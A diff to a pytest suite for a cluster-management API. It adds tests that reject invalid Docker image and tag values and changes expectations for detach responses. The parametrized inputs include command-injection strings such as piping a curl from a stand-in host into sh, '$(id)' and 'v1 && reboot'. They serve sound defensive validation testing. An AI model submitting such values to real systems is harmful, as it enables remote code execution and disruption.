@@ -71,6 +71,54 @@ def test_name_is_required(api):
     assert "name" in response.json()["fields"]
 
 
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("docker_image", "ghcr.io/glueops/tools:v1"),
+        ("docker_image", "ghcr.io/GlueOps/tools"),
+        ("docker_image", "tools; curl evil.example | sh"),
+        ("docker_image", "tools@sha256:" + "a" * 64),
+        ("docker_image", "$(id)"),
+        ("docker_tag", "-v1"),
+        ("docker_tag", "v1 && reboot"),
+        ("docker_tag", "v1\nid"),
+        ("docker_tag", "t" * 129),
+    ],
+)
+def test_a_bad_docker_image_or_tag_is_400_naming_the_field_on_create_and_patch(
+    api, org, field, value
+):
+    created = api.post("/api/v1/clusters", {"name": "prod", field: value}, format="json")
+    cluster = ClusterFactory(organization=org)
+    patched = api.patch(f"/api/v1/clusters/{cluster.pk}", {field: value}, format="json")
+
+    for response in (created, patched):
+        assert response.status_code == 400
+        assert response.json()["message"].startswith(f"{field}: ")
+        assert list(response.json()["fields"]) == [field]
+    assert Cluster.objects.count() == 1
+    cluster.refresh_from_db()
+    assert (cluster.docker_image, cluster.docker_tag) == ("ghcr.io/glueops/cluster-tools", "v1.0.0")
+
+
+def test_docker_image_and_tag_stay_optional_and_accept_registry_ports(api, org):
+    bare = api.post("/api/v1/clusters", {"name": "bare"}, format="json")
+    assert bare.status_code == 201
+    assert (bare.json()["docker_image"], bare.json()["docker_tag"]) == ("", "")
+
+    response = api.patch(
+        f"/api/v1/clusters/{bare.json()['id']}",
+        {
+            "docker_image": "registry.example.com:5000/team/cluster_tools",
+            "docker_tag": "1.2.3-rc_1",
+        },
+        format="json",
+    )
+    assert response.status_code == 200
+    assert response.json()["docker_image"] == "registry.example.com:5000/team/cluster_tools"
+    assert response.json()["docker_tag"] == "1.2.3-rc_1"
+
+
 def test_no_kubeconfig_or_join_secret_appears_in_list_or_get(api, org):
     cluster = ClusterFactory(organization=org, kubeconfig=KUBECONFIG)
     listed = api.get("/api/v1/clusters")
@@ -171,7 +219,8 @@ def test_attach_shows_the_object_and_detach_clears_exactly_that_column(api, org,
 
     response = api.delete(f"/api/v1/clusters/{cluster.pk}/{route}")
     assert response.status_code == 200
-    assert response.json()[key] is None
+    # Absent references are omitted, as the original's pointers with `omitempty`.
+    assert key not in response.json()
     assert type(target).objects.filter(pk=target.pk).exists()
 
 
@@ -290,7 +339,7 @@ def test_deleting_an_attached_server_or_load_balancer_detaches_it(api, org):
     bastion.delete()
     lb.delete()
     body = api.get(f"/api/v1/clusters/{cluster.pk}").json()
-    assert body["bastion_server"] is None and body["glueops_load_balancer"] is None
+    assert "bastion_server" not in body and "glueops_load_balancer" not in body
 
 
 # --- kubeconfig -------------------------------------------------------------------------------
@@ -344,9 +393,11 @@ def test_attach_and_detach_node_pools(api, org):
     response = api.delete(f"{url}/{pool.pk}")
     assert response.status_code == 200
     assert response.json()["node_pools"] == []
-    missing = api.delete(f"{url}/{pool.pk}")
-    assert missing.status_code == 404
-    assert missing.json()["code"] == "nodepool_not_found"
+    # Detaching what is not attached is idempotent, as in the original.
+    again = api.delete(f"{url}/{pool.pk}")
+    assert again.status_code == 200 and again.json()["node_pools"] == []
+    stranger = NodePoolFactory()
+    assert api.delete(f"{url}/{stranger.pk}").status_code == 200
     assert api.delete(f"{url}/bad").status_code == 400
 
 
